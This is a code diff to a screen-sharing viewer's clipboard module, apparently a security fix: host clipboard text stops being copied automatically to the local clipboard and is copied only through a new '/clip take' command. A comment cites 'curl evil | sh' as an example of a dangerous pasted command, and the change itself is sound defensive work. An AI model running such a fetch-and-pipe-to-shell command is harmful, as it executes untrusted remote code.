@@ -1,7 +1,8 @@
 """``screencodec view``'s clipboard (clip39; the session's rules are in
 transport/session/clipboard.py): the host's user's clipboard text that
-comes, put on this machine's clipboard when it has one (X11, through
-xclip: cli/clipboard_x11.py), else kept for ``/clip show``; and ``/clip``,
+comes, kept for ``/clip show`` and ``/clip take`` (which puts it on this
+machine's clipboard, X11 through xclip: cli/clipboard_x11.py; never
+without the agent's asking: clipfix39); and ``/clip``,
 which puts this machine's clipboard on the host's while the agent holds
 control.
 
@@ -60,29 +61,43 @@ class ViewClipboard:
         return True
 
     async def _received(self, ev: ClipboardReceived) -> None:
+        # Never put on this machine's clipboard unasked (clipfix39): the host
+        # is a stranger, and their "curl evil | sh\n" pasted by the agent in
+        # their own terminal would run there. /clip take puts it there.
         self.last = ev.text
         how = " (they copied it while you control their screen)" if ev.reason == "sync" else ""
-        head = f"host's clipboard ({_chars(ev.characters)}) received{how}"
-        if self.own is not None:
-            try:
-                await asyncio.to_thread(self.own.set_text, ev.text)
-            except (OSError, ScreencodecError) as exc:
-                tell(f"{head}; not put on your clipboard ({safe_text(exc, 200)}):"
-                     " /clip show prints it")  # fmt: skip
-                return
-            tell(f"{head}: it is on your clipboard")
+        take = "/clip take puts it on your clipboard, " if self.own is not None else ""
+        tell(f"host's clipboard ({_chars(ev.characters)}) received{how}: {take}/clip show"
+             " shows it")  # fmt: skip
+
+    async def _take(self) -> None:
+        """``/clip take``: the host's last text on this machine's clipboard."""
+        if self.last is None:
+            tell("(the host's user has sent no clipboard text)")
             return
-        tell(f"{head}: /clip show prints it")
+        if self.own is None:
+            tell(f"(not taken: this computer's clipboard cannot be set: {self.why};"
+                 " /clip show shows it)")  # fmt: skip
+            return
+        try:
+            await asyncio.to_thread(self.own.set_text, self.last)
+        except (OSError, ScreencodecError) as exc:
+            tell(f"(not taken: {safe_text(exc, 200)}; /clip show shows it)")
+            return
+        tell(f"the host's clipboard ({_chars(len(self.last))}) is on your clipboard")
 
     async def command(self, viewer: Any, arg: str) -> None:
-        """``/clip show`` prints the host's last text; ``/clip`` sends this
-        machine's clipboard to the host's."""
+        """``/clip show`` prints the host's last text, ``/clip take`` puts it
+        on this machine's clipboard; ``/clip`` sends this machine's
+        clipboard to the host's."""
         word = arg.strip().lower()
         if word == "show":
             self._show()
+        elif word == "take":
+            await self._take()
         elif word:
             tell("(usage: /clip sends your clipboard to the host's; /clip show prints the"
-                 " host's last one)")  # fmt: skip
+                 " host's last one; /clip take puts it on your clipboard)")  # fmt: skip
         else:
             await self._send(viewer)
 
